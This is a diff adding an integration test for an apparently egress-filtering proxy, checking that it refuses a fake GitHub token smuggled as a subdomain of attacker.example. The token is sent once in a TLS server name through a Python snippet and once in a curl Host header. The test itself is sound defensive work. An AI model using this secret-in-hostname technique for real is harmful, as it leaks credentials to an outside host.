@@ -408,6 +408,49 @@ async fn transparent_mode_takes_redirected_connections_and_refuses_what_it_canno
         "a refused request reached the origin"
     );
 
+    // A credential in the name, as the client wrote it (its case is what its checksum
+    // reads): refused before anything resolves it, in a TLS server name and in a `Host`.
+    let token = support::fake_secret("github-pat", "netns", 1);
+    let named = format!("{token}.attacker.example");
+    let hello = format!(
+        "import socket, ssl\nctx = ssl.create_default_context()\nctx.check_hostname = False\n\
+         ctx.verify_mode = ssl.CERT_NONE\ns = socket.create_connection(('{o}', 443), timeout=10)\n\
+         try:\n    ctx.wrap_socket(s, server_hostname='{named}')\n    print('handshake')\n\
+         except Exception as e:\n    print('refused', type(e).__name__)\n"
+    );
+    let sni = net
+        .agent(&["python3", "-c", &hello], &BTreeMap::new())
+        .await;
+    assert!(sni.stdout.starts_with("refused"), "{sni:#?}");
+    proxy.log_line(|l| l.contains("credential_leak")).await;
+    let host = format!("Host: {named}");
+    let leak = net
+        .agent(
+            &[
+                "curl",
+                "-sS",
+                "-i",
+                "--max-time",
+                "20",
+                "-H",
+                &host,
+                "--resolve",
+                &format!("example.test:80:{o}"),
+                "http://example.test/small",
+            ],
+            &BTreeMap::new(),
+        )
+        .await;
+    let (status, headers, _) = parse_curl(&leak.stdout);
+    assert_eq!(status, 403, "{leak:#?}");
+    assert!(
+        headers
+            .iter()
+            .any(|(k, v)| k == "x-wirepass-refused" && v == "credential_leak"),
+        "{headers:?}"
+    );
+    support::assert_no_secret("the log", &proxy.stderr());
+
     // Straight to the transparent port, not redirected: there is no original destination.
     let straight = net
         .agent(
